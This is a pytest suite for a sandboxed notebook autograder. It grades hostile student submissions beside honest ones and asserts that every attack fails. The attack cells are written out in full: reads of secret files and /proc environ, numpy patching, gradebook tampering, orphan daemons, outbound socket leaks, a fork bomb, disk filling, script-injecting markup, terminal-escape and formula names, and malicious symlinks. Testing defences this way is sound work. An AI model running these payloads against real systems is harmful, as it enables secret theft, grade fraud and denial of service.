"""Tamper-proof grading: hostile submissions, graded in one batch beside honest students.

The attacker knows this repository. Each hostile student is a correct notebook plus one attack
(or a wrong answer plus an attack meant to hide it). The batch runs with the sandbox, 2 workers,
a secret in the TA's environment and a secret file in the TA's HOME. Then:

* every attack fails: nothing secret reaches any feedback or autograded notebook, no file of the
  course changes, no process outlives the batch, no connection leaves the sandbox;
* cheating costs the cheater: a wrong answer stays wrong whatever the attack;
* the honest students keep exactly the scores they get without attackers (full marks).
"""

import contextlib
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

from tools.demo_class import answers_for, student_notebook
from grading.names import printable, spreadsheet_cell
from tests.browser import assert_no_student_script_ran, mark_js
from tests.course_copy import ROOT, copy_course, grade

FULL = [2, 2, 2, 1, 3, 2]
PARTS = ["softmax", "forward_pass", "cross_entropy_loss", "update_params", "train_nn", "MultiClassNet"]
NOTEBOOK = "perceptrons/perceptrons.ipynb"
SECRET_ENV = "TA_SECRET_TOKEN"
SECRET_VALUE = "env-secret-5f1c9a77"
HOME_SECRET = "home-secret-90b3e2d1"
HONEST_MARK = "honest-marker-4471"  # a comment in the honest students' notebooks
DAEMON_MARK = "sleep 987653"
# Lines that only the grader's side holds: none may appear in anything a student sees.
SECRETS = {
    "reference source": "Reference implementations of the perceptrons exercise",
    "hidden checks": "def test_softmax_large_logits",
    "solutions": "### BEGIN SOLUTION",
    "TA environment": SECRET_VALUE,
    "TA HOME": HOME_SECRET,
    "another student's notebook": HONEST_MARK,
}

SOFTMAX_WRONG = "def softmax(z):\n    return jnp.zeros_like(z)\n"

# Scripts that, if they ran in a browser, would leave their mark (tests/browser.py) on the page.
SCRIPT_MARKS = [f"pwned-{name}" for name in ("html", "img", "svg", "svg_script", "js", "md_output", "raw",
                                             "md", "md_img", "md_svg", "md_iframe", "md_link")]
MARK_JS = {f"js_{mark.removeprefix('pwned-')}": mark_js(mark) for mark in SCRIPT_MARKS}
# A markdown cell of such scripts, and a style meant to hide the grader's score.
MARKDOWN_ATTACK = f"""# My notes
<script>{MARK_JS["js_md"]}</script>
<img src=x onerror="{MARK_JS["js_md_img"]}">
<svg onload="{MARK_JS["js_md_svg"]}"></svg>
<iframe srcdoc="<script>{MARK_JS["js_md_iframe"]}</script>"></iframe>
<a href="javascript:{MARK_JS["js_md_link"]}">click</a>
<style>h4, .score {{ display: none }}</style><div class="score">Score: 12 / 12</div>
"""
# student id -> (attack cell inserted after the setup cell, {answer grade id: replacement source})
ATTACKS = {
    "prints_secrets": ("""
import glob, os
for pattern in ["{course}/reference/*.py", "{course}/grader_tests/*.py", "{course}/source/*/*.ipynb",
                "{course}/submitted/*/*/*.ipynb", "{home}/*", "/proc/1/environ"]:
    for path in glob.glob(pattern):
        try:
            print(path, open(path, errors="replace").read()[:20000])
        except OSError as error:
            print(path, type(error).__name__)
    print(pattern, "->", glob.glob(pattern))
print(dict(os.environ))
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/dev")):
        continue
    for name in files:
        if name.endswith((".py", ".ipynb", ".db", ".json")) and "site-packages" not in root and "pyenv" not in root:
            print("found", os.path.join(root, name))
""", {}),
    "patches_numpy": ("""
import numpy, jax.numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
""", {"softmax_code": SOFTMAX_WRONG}),
    "steals_reference": ("""
import gc, sys
def _find(name):
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith(("reference", "grader_tests")) and hasattr(module, name):
            return getattr(module, name)
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == name and getattr(obj, "__module__", "") in ("reference", "reference.jax_mlp", "grader_tests.expected"):
            return obj
    return None
""", {"softmax_code": "def softmax(z):\n    found = _find('softmax')\n    return found(z) if found else jnp.zeros_like(z)\n"}),
    "forges_answers": ("""
import sandbox.agent as agent
agent.Agent.handle = lambda self, request: {{"ok": 2.0, "called": [], "evaluations": []}}
""", {"softmax_code": SOFTMAX_WRONG}),
    "rewrites_grades": ("""
import json, os, sqlite3
for path in ["{course}/gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        db.commit()
        print("gradebook changed")
    except Exception as error:
        print("gradebook:", type(error).__name__, error)
for student in ["honest_a", "honest_b", "rewrites_grades"]:
    try:
        os.makedirs("{course}/.grading/results", exist_ok=True)
        with open(f"{course}/.grading/results/{{student}}.json", "w") as handle:
            json.dump({{"student_id": student, "scores": {{}}, "total": 12 if student == "rewrites_grades" else 0}}, handle)
        print("results changed")
    except OSError as error:
        print("results:", type(error).__name__)
for path in ["{course}/grader_tests/test_softmax.py", "{course}/reference/jax_mlp.py", "{course}/grades.csv"]:
    try:
        with open(path, "a") as handle:
            handle.write("\\nraise SystemExit('sabotaged')\\n")
        print("changed", path)
    except OSError as error:
        print(path, type(error).__name__)
""", {"softmax_code": SOFTMAX_WRONG}),
    "leaves_daemon": ("""
import os, subprocess
subprocess.Popen(["sh", "-c", "{daemon}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "{daemon}"])
    os._exit(0)
""", {}),
    "uses_network": ("""
import socket
for host, port in [("127.0.0.1", {port}), ("10.0.2.2", 80), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"leak")
        print("connected", host)
    except OSError as error:
        print("no network", host, type(error).__name__)
""", {}),
    "fork_bomb": ("""
import os, time
children = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("fork bomb stopped after", children, "children")
""", {}),
    "fills_disk": ("""
import os
for where in ["/tmp", os.path.expanduser("~"), "."]:
    written = 0
    try:
        with open(os.path.join(where, "filler.bin"), "wb") as handle:
            while written < 4096:
                handle.write(b"x" * 2**20)
                written += 1
    except OSError as error:
        print(where, type(error).__name__)
    print(where, written, "MB")
""", {}),
    # Roads around the sandbox wall (README, "Security model"): what the trusted side reads of a kernel.
    "injects_markup": ("""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML(\"\"\"<script>{js_html}</script><img src=x onerror="{js_img}">\"\"\"))
display(SVG(\"\"\"<svg xmlns="http://www.w3.org/2000/svg" onload="{js_svg}"><script>{js_svg_script}</script></svg>\"\"\"))
display(Javascript(\"\"\"{js_js}\"\"\"))
display(Markdown(\"\"\"<script>{js_md_output}</script>\"\"\"))
display({{"text/html": \"\"\"<div class="score">Score: 12 / 12</div><script>{js_raw}</script>\"\"\"}}, raw=True)
for i in range(40):  # then 40 x 1 MB of rich output: far past every cap
    display({{"text/html": "<p>" + "x" * 2**20 + "</p>", "image/png": "iVBORw0KGgo" + "A" * 2**20}}, raw=True)
display({{"text/plain": "y" * 20 * 2**20}}, raw=True)  # one 20 MB message: over the size a kernel message may have
""", {}),
    "forges_frames": ("""
import socket, struct, time
import sandbox.agent as agent
_serve = agent.serve

def _frame(body):
    return struct.pack(">I", len(body)) + body

def serve(address, namespace, load_errors=()):
    if not address.endswith(("grader-softmax.sock", "grader-forward_pass.sock")):
        return _serve(address, namespace, load_errors)
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(address)
    sock.sendall(_frame(b'{{"hello": {{}}}}'))
    try:
        if address.endswith("grader-softmax.sock"):  # one frame of 10 million tiny items, for every request
            flood = _frame(b'{{"ok": {{"list": [' + b"[]," * 10_000_000 + b'[]]}}}}')
            while sock.recv(1 << 16):
                sock.sendall(flood)
        else:  # an answer trickled one byte every 5 s
            sock.recv(1 << 16)
            for byte in _frame(b'{{"ok": 1.0}}' + b" " * 100):
                sock.sendall(bytes([byte]))
                time.sleep(5)
    except OSError:
        pass

agent.serve = serve
""", {}),
}
# Submissions that are not (only) regular files: each is refused, in words, and costs nobody else.
# student id -> (path in the student's folder or None for the folder itself, what it becomes)
LINKED = {
    "links_to_solution": (NOTEBOOK, "symlink:{course}/source/perceptrons/perceptrons.ipynb"),
    "links_to_honest": (NOTEBOOK, "symlink:{course}/submitted/honest_a/perceptrons/perceptrons.ipynb"),
    "links_folder": (None, "symlink:{course}/submitted/honest_b"),
    "links_to_proc": (NOTEBOOK, "symlink:/proc/self/environ"),
    "sends_fifo": (NOTEBOOK, "fifo"),
}
# A student id and a file name with terminal escapes (erase the screen, set the title) and a formula.
ODD_ID = "=2+5\x1b[2J\x1b]0;pwned-title\x07"
ODD_FILE = "perceptrons/\x1b[2Kmine\x1b]0;pwned\x07.ipynb"
ODD_ATTACK = ("""
import os, sys
# what the grader once read back as statuses, and a log line that looks like another student's
print("softmax did not finish within 30 s (an endless loop?)")
print("[the kernel died while the grader's checks ran (os._exit, a crash, or too much memory)]")
os.write(2, b"--- honest_a\\nhonest_a | forged kernel line\\n\\x1b]0;pwned-title\\x07\\x1b[2K")
class CellTimeoutError(Exception):
    pass
raise CellTimeoutError("Cell execution timed out")  # an error output named like the grader's own
""", {"softmax_code": "def softmax(z):\n    print('did not finish within 30 s')\n"
      "    exp_shifted = jnp.exp(z - jnp.max(z, axis=-1, keepdims=True))\n"
      "    return exp_shifted / jnp.sum(exp_shifted, axis=-1, keepdims=True)\n"})
ODD_ROW = spreadsheet_cell(ODD_ID)  # how grades.csv writes it: escaped, and no formula
# Honest students: the correct notebook (with a marker another student might try to read).
HONEST = ["honest_a", "honest_b"]
# Attacks that replace an answer by a wrong one: that part must stay at 0, whatever the attack.
EXPECTED = {student: ([0] + FULL[1:] if "softmax_code" in answers else FULL) for student, (_, answers) in ATTACKS.items()}
EXPECTED["forges_answers"] = [0] * 6  # its agent answers nonsense to every request, so every part fails
EXPECTED["forges_frames"] = [0, 0, *FULL[2:]]  # the two parts whose answers it forged
# The fork bomb's children hold its sandbox's whole process budget, so its own kernel can start no
# thread and dies in later cells: the bomb costs the bomber (at most full marks, never more).
EXPECTED["fork_bomb"] = None

pytestmark = pytest.mark.slow  # a whole class graded end to end (minutes)


def notebook(attack=None, answers=None, honest=False):
    solution = answers_for(True, [])
    if honest:
        solution["forward_pass_code"] = f"# {HONEST_MARK}\n" + solution["forward_pass_code"]
    nb = student_notebook({**solution, **(answers or {})})
    if attack:
        setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "exercise_setup")
        nb.cells.insert(setup + 1, new_code_cell(attack))
    return nb


def _digest(paths):
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def _processes_with(text):
    found = subprocess.run(["pgrep", "-af", text], capture_output=True, text=True).stdout
    return [line for line in found.splitlines() if "pgrep" not in line]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    course = copy_course(base / "course", include=["nbgrader_config.py", "source", "grader_tests", "reference", "grading", "sandbox"])
    home = base / "ta_home"
    home.mkdir()
    (home / "notes.txt").write_text(HOME_SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    for student, (attack, answers) in ATTACKS.items():
        code = attack.format(course=course, home=home, daemon=DAEMON_MARK, port=port, **MARK_JS)
        path = course / "submitted" / student / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(notebook(code, answers), str(path))
    markup = notebook(ATTACKS["injects_markup"][0].format(**MARK_JS))
    markup.cells.insert(1, new_markdown_cell(MARKDOWN_ATTACK))
    nbformat.write(markup, str(course / "submitted" / "injects_markup" / NOTEBOOK))
    for student in HONEST:
        path = course / "submitted" / student / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(notebook(honest=True), str(path))
    path = course / "submitted" / ODD_ID / ODD_FILE
    path.parent.mkdir(parents=True)
    nbformat.write(notebook(*ODD_ATTACK), str(path))
    for student, (relative, what) in LINKED.items():
        path = course / "submitted" / student / relative if relative else course / "submitted" / student
        path.parent.mkdir(parents=True, exist_ok=True)
        if what == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to(what.removeprefix("symlink:").format(course=course))
    protected = [p for d in ("grader_tests", "reference", "source", "grading", "sandbox") for p in (course / d).rglob("*") if p.is_file()]
    before = _digest(protected)
    free_before = shutil.disk_usage(base).free
    completed = grade(course, GRADING_CELL_TIMEOUT="40", HOME=str(home), **{SECRET_ENV: SECRET_VALUE})
    connections = []
    try:
        while True:
            connections.append(listener.accept())
    except OSError:
        pass
    listener.close()
    with open(course / "grades.csv", newline="") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    return {"course": course, "completed": completed, "rows": rows, "before": before, "after": _digest(protected),
            "connections": connections, "free_before": free_before, "free_after": shutil.disk_usage(base).free}


def test_the_batch_finishes_and_lists_everyone(attacked):
    completed, rows = attacked["completed"], attacked["rows"]
    assert completed.returncode == 0, completed.stdout[-2000:] + completed.stderr[-3000:]
    assert sorted(rows) == sorted([*ATTACKS, *HONEST, *LINKED, ODD_ROW])


@pytest.mark.parametrize("student", HONEST)
def test_honest_students_keep_full_marks(attacked, student):
    row = attacked["rows"][student]
    assert [float(row[p]) for p in PARTS] == FULL, row
    assert row["status"] == "graded", row
    result = json.loads((attacked["course"] / ".grading" / "results" / f"{student}.json").read_text())
    assert result["total"] == 12 and result["sandboxed"] is True


@pytest.mark.parametrize("student", list(ATTACKS))
def test_an_attack_never_raises_the_attackers_grade(attacked, student):
    row = attacked["rows"][student]
    if EXPECTED[student] is None:
        assert all(float(row[p]) <= full for p, full in zip(PARTS, FULL)), row
    else:
        assert [float(row[p]) for p in PARTS] == EXPECTED[student], row


@pytest.mark.parametrize("what", list(SECRETS))
def test_nothing_secret_reaches_what_students_see(attacked, what):
    course = attacked["course"]
    seen = [*(course / "feedback").rglob("*.html"), *(course / "autograded").rglob("*.ipynb")]
    assert len(seen) >= 2 * (len(ATTACKS) + len(HONEST))
    for path in seen:
        text = path.read_text(encoding="utf-8", errors="replace")
        if what == "solutions":  # the honest notebooks legitimately hold their own answers, never the markers
            assert SECRETS[what] not in text, path
        elif what == "another student's notebook":
            if not path.parent.parent.name.startswith("honest"):
                assert SECRETS[what] not in text, path
        else:
            assert SECRETS[what] not in text, f"{what} leaked into {path}"


def test_no_file_of_the_course_changed(attacked):
    assert attacked["after"] == attacked["before"]


def test_results_and_gradebook_are_written_only_by_the_grader(attacked):
    course = attacked["course"]
    rows = attacked["rows"]
    assert float(rows["rewrites_grades"]["total"]) == 10  # its wrong softmax, nothing more
    for student in HONEST:
        saved = json.loads((course / ".grading" / "results" / f"{student}.json").read_text())
        assert saved["total"] == 12
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for student in HONEST:
            assert gradebook.find_submission("perceptrons", student).score == 12


def _chain(pid):
    """``pid`` and its ancestors up to init, as pids; parents are read from /proc/<pid>/stat."""
    chain = []
    while pid > 1 and pid not in chain:
        chain.append(pid)
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            break
        pid = int(stat.rsplit(")", 1)[1].split()[1])
    return chain


def _leftovers_of(course, text):
    """Processes with ``text`` in their command line that this batch left: run from inside ``course``
    (a process or one of its ancestors has its working directory there) or orphaned (no Python
    process above them: not another grader's sandbox, such as a second test run's on this machine)."""
    found = []
    for line in _processes_with(text):
        chain = _chain(int(line.split()[0]))
        cwds, commands = [], []
        for pid in chain:
            with contextlib.suppress(OSError):
                cwds.append(os.readlink(f"/proc/{pid}/cwd"))
                commands.append(Path(f"/proc/{pid}/cmdline").read_bytes())
        inside = any(cwd == str(course) or cwd.startswith(f"{course}/") for cwd in cwds)
        orphaned = not any(b"python" in command for command in commands)
        if inside or orphaned:
            found.append(line)
    return found


def test_no_process_outlives_the_batch(attacked):
    assert _processes_with(DAEMON_MARK) == []
    assert _processes_with("ipykernel_launcher") == [] or all(str(attacked["course"]) not in line for line in _processes_with("ipykernel_launcher"))
    assert _leftovers_of(attacked["course"], "perceptrons-sandbox") == []


def _printed(attacked, student):
    """What the student's cells printed (outputs only, not their source) in the autograded notebook."""
    nb = nbformat.read(str(attacked["course"] / "autograded" / student / NOTEBOOK), as_version=4)
    return "".join(out.get("text", "") for cell in nb.cells if cell.cell_type == "code" for out in cell.get("outputs", []))


def test_no_connection_leaves_the_sandbox(attacked):
    assert attacked["connections"] == []
    printed = _printed(attacked, "uses_network")
    assert "connected" not in printed and printed.count("no network") == 3


def test_fork_bomb_and_disk_filler_are_contained(attacked):
    assert "fork bomb stopped after" in _printed(attacked, "fork_bomb")
    assert attacked["free_before"] - attacked["free_after"] < 300 * 2**20  # nothing of the filler on the TA's disk
    assert [float(attacked["rows"]["fills_disk"][p]) for p in PARTS] == FULL
    assert "/tmp OSError" in _printed(attacked, "fills_disk")  # stopped by the sandbox's limits, long before 4 GB


# -- the roads around the wall -------------------------------------------------------------------

def _result(attacked, student):
    return json.loads((attacked["course"] / ".grading" / "results" / f"{student}.json").read_text())


@pytest.mark.parametrize("student", list(LINKED))
def test_links_and_special_files_are_refused_in_words(attacked, student):
    row = attacked["rows"][student]
    assert [float(row[p]) for p in PARTS] == [0] * 6, row
    expected = {"links_folder": "is a symbolic link, not a folder", "sends_fifo": "perceptrons/perceptrons.ipynb (a FIFO)"}
    assert expected.get(student, "refused perceptrons/perceptrons.ipynb (a symbolic link)") in row["status"], row
    assert not (attacked["course"] / "feedback" / student).exists()
    assert not (attacked["course"] / "autograded" / student).exists()


def test_names_are_shown_escaped_and_never_as_formulas(attacked):
    course, completed = attacked["course"], attacked["completed"]
    row = attacked["rows"][ODD_ROW]
    assert ODD_ROW.startswith("'=2+5\\x1b[2J") and [float(row[p]) for p in PARTS] == FULL, row
    assert row["status"].startswith("graded (graded perceptrons/\\x1b[2Kmine\\x1b]0;pwned\\x07.ipynb: no notebook named"), row
    for path in (course / "grades.csv", course / "checks.csv", course / ".grading" / "logs" / "kernels.log"):
        text = path.read_text(encoding="utf-8")
        assert "\x1b" not in text and "\x07" not in text, path
    with open(course / "checks.csv", newline="") as handle:
        assert not any(r["student_id"].startswith(("=", "+", "-", "@")) for r in csv.DictReader(handle))
    for printed in (completed.stdout, completed.stderr):
        assert "\x1b]0;pwned" not in printed and "\x1b[2J" not in printed


def test_printed_grader_words_set_no_status(attacked):
    row, result = attacked["rows"][ODD_ROW], _result(attacked, ODD_ID)
    assert [float(row[p]) for p in PARTS] == FULL, row  # printing the grader's words costs nothing and earns nothing
    assert row["status"].startswith("graded (") and result["problems"] == [] and result["retried"] is False, row
    printed = attacked["completed"].stdout + attacked["completed"].stderr
    assert not [line for line in printed.splitlines() if "regrading" in line and printable(ODD_ID) in line]


def test_kernel_log_lines_cannot_pass_for_another_students(attacked):
    lines = (attacked["course"] / ".grading" / "logs" / "kernels.log").read_text(encoding="utf-8").splitlines()
    section = None
    for line in lines:
        if line.startswith("--- "):
            section = line.removeprefix("--- ")
        else:
            assert section is not None and line.startswith(f"{section} | "), line
    odd = printable(ODD_ID)
    assert f"{odd} | honest_a | forged kernel line" in lines
    assert "honest_a | forged kernel line" not in [line for line in lines if not line.startswith(f"{odd} | ")]


def test_forged_frames_and_trickled_answers_cost_only_their_parts(attacked):
    result = _result(attacked, "forges_frames")
    softmax_messages = " ".join(c["message"] for c in result["checks"]["softmax"])
    assert "malformed" in softmax_messages, softmax_messages
    assert [p["part"] for p in result["problems"]] == ["forward_pass"] and result["problems"][0]["code"] == "timed_out"
    assert result["retried"] is False  # a trickle is the submission's own doing, not load: final
    # one deadline for the whole answer (the cell time-out, 40 s here), not one per byte
    assert result["seconds"] < 150, result["seconds"]


def test_outputs_are_capped_whatever_their_type(attacked):
    course = attacked["course"]
    row = attacked["rows"]["injects_markup"]
    assert row["status"].startswith("graded (outputs over the cap dropped in cell"), row
    autograded = course / "autograded" / "injects_markup" / NOTEBOOK
    feedback = course / "feedback" / "injects_markup" / "perceptrons" / "perceptrons.html"
    honest = course / "autograded" / "honest_a" / NOTEBOOK
    # 4 MiB of outputs a submission at most, on top of what the notebook itself holds
    assert autograded.stat().st_size < honest.stat().st_size + 5 * 2**20
    assert feedback.stat().st_size < 8 * 2**20


def test_nothing_a_student_wrote_runs_in_a_browser(attacked, tmp_path):
    course = attacked["course"]
    feedback = course / "feedback" / "injects_markup" / "perceptrons" / "perceptrons.html"
    dom = assert_no_student_script_ran(feedback, SCRIPT_MARKS, workdir=tmp_path)
    assert "Score: 12.0 / 12.0" in dom  # the grader's score, whatever the student's markup says
    nb = nbformat.read(str(course / "autograded" / "injects_markup" / NOTEBOOK), as_version=4)
    kept = {mime for cell in nb.cells if cell.cell_type == "code" for out in cell.get("outputs", []) for mime in out.get("data", {})}
    assert kept <= {"text/plain", "text/html", "image/png", "image/jpeg"}, kept
    assert "<script" not in json.dumps([cell.get("outputs", []) for cell in nb.cells if cell.cell_type == "code"])
